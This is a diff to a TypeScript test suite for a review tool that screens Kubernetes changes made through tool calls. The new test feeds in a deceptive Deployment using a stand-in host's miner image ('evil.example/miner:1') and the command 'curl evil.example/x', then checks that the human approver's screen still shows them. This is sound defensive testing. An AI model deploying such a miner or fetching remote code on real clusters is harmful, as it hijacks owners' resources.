@@ -2,6 +2,8 @@ import { gzipSync } from 'node:zlib';
 import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
 import { limits } from '../../src/core/limits.ts';
 import type { CallResult } from '../../src/core/result.ts';
+import { reviewTicket } from '../../src/pipeline/settle.ts';
+import { idOf } from '../support/start-vigie.ts';
 import { type Instead, type Meddled, type Passing, refusal, startMeddled } from './meddler.ts';
 
 const web = { kind: 'Deployment', name: 'web', namespace: 'shop' };
@@ -223,6 +225,35 @@ describe('text that deceives', () => {
     if (result.status === 'approval_required')
       expectHarmless(await running.call('changes_get', { id: result.data['id'] }));
   });
+});
+
+test('an image cannot be hidden from the approver by a variable that repeats it, nor a command unnoticed', async () => {
+  const [image, command] = ['evil.example/miner:1', 'curl evil.example/x'];
+  const env = [
+    { name: 'A_TOKEN', value: image },
+    { name: 'B_TOKEN', value: command },
+    { name: 'C_TOKEN', value: 'Deployment/evil' },
+  ];
+  const manifest = JSON.stringify({
+    apiVersion: 'apps/v1',
+    kind: 'Deployment',
+    metadata: { name: 'evil', namespace: 'shop' },
+    spec: {
+      selector: { matchLabels: { app: 'evil' } },
+      template: {
+        metadata: { labels: { app: 'evil' } },
+        spec: { containers: [{ name: 'evil', image, args: [command], env }] },
+      },
+    },
+  });
+  const asked = await running.call('k8s_apply', { manifest });
+  const signal = new AbortController().signal;
+  const review = await reviewTicket(running.vigie, { id: idOf(asked), person: 'alice', signal });
+  const screen = 'review' in review ? review.review.screen : '';
+  expect(screen).toMatch(/^Runs +evil image evil\.example\/miner:1 /m);
+  expect(screen).toMatch(/^Targets +create Deployment\/evil in shop/m);
+  expect(screen).toMatch(/^Runs +args 0 \[redacted #\d+\]/m);
+  expect(screen).toMatch(/^Note +part of a command is masked/m);
 });
 
 function strings(data: unknown): string {
